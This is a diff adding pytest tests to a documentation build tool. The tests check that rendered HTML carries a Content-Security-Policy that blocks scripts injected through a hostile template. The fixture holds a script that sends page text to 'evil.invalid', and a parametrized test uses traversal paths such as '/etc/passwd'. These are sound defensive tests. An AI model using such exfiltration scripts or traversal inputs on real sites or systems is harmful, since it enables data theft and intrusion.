@@ -128,6 +128,26 @@ def test_a_template_override_escape_fails_the_build_with_a_clear_error(mini_git)
     assert not (mini_git / "build/2026Q1").exists()
 
 
+@pytest.mark.slow
+def test_a_script_in_a_template_cannot_run_when_the_html_is_opened(mini_git):
+    base = (Path(__file__).parent.parent / "src/kaohe_docs/templates/base.html").read_text(encoding="utf-8")
+    hostile = "<script>fetch('https://evil.invalid/?' + document.body.innerText)</script>\n" + base
+    attacker_branch(mini_git, {"templates/base.html": hostile})
+    result = run("-C", str(mini_git), "-q", "build", "2026Q1", "--html-only")
+    assert result.exit_code == 0, result.output
+    html = (mini_git / "build/2026Q1/01-公示.html").read_text(encoding="utf-8")
+    policy = ('<meta http-equiv="Content-Security-Policy" content="default-src \'none\'; style-src \'unsafe-inline\' '
+              'file: data:; img-src file: data:; font-src file: data:; base-uri \'none\'; form-action \'none\'">')
+    assert html.startswith(policy + "<script>")  # enforced by the browser on everything after it
+
+
+def test_the_content_security_policy_follows_the_doctype():
+    from kaohe_docs.render.renderer import lock_html
+    locked = lock_html("<!DOCTYPE html>\n<html><head><script>x()</script>")
+    assert locked.startswith('<!DOCTYPE html><meta http-equiv="Content-Security-Policy" content="default-src \'none\';')
+    assert locked.index("Content-Security-Policy") < locked.index("<script>")
+
+
 @pytest.mark.parametrize("include", ["/etc/passwd", "../../x", "../templates/base.html", "sub/x.html", ".hidden"])
 def test_includes_outside_templates_are_refused(mini, include):
     with pytest.raises(KaoheError) as caught:
